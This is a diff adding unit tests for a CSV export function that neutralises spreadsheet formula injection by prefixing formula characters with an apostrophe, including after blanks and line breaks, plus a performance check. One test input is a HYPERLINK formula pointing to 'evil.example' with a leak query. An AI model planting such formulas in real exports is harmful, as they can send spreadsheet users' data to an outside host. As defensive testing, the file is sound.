@@ -16,6 +16,24 @@ describe('CSV exports', () => {
 		expect(csvCell(new Date('2026-01-02T03:04:05.000Z'))).toBe('"2026-01-02T03:04:05.000Z"');
 	});
 
+	it('defuses a formula start also after blanks that follow the start, a separator or a line end (importers trim them)', () => {
+		expect(csvCell('reach me; =1+1')).toBe(`"reach me; '=1+1"`);
+		expect(csvCell('Nick; =HYPERLINK("http://evil.example/?leak","open")')).toBe(
+			`"Nick; '=HYPERLINK(""http://evil.example/?leak"",""open"")"`
+		);
+		expect(csvCell('first line\n  @SUM(1+1)')).toBe(`"first line\n  '@SUM(1+1)"`);
+		expect(csvCell('  =1+1')).toBe(`"  '=1+1"`);
+		expect(csvCell('a,\u00a0\u3000+2|\t -3\r\n \r')).toBe(`"a,\u00a0\u3000'+2|'\t '-3\r\n '\r"`);
+		// Blanks inside a phrase are not a cell boundary: a dash there stays as written.
+		expect(csvCell('well - known')).toBe('"well - known"');
+	});
+
+	it('stays linear on a cell of blanks and formula starts (the lookbehind walks only blanks before one)', () => {
+		const cell = ' '.repeat(100_000) + '=1';
+		expect(csvCell(cell)).toBe(`"${' '.repeat(100_000)}'=1"`);
+		expect(csvCell('- '.repeat(50_000))).toBe(`"'${'- '.repeat(50_000)}"`);
+	});
+
 	it('toCsv writes the header and rows with CRLF line ends', () => {
 		expect(toCsv(['a', 'b'], [['1', null]])).toBe('"a","b"\r\n"1",""\r\n');
 	});
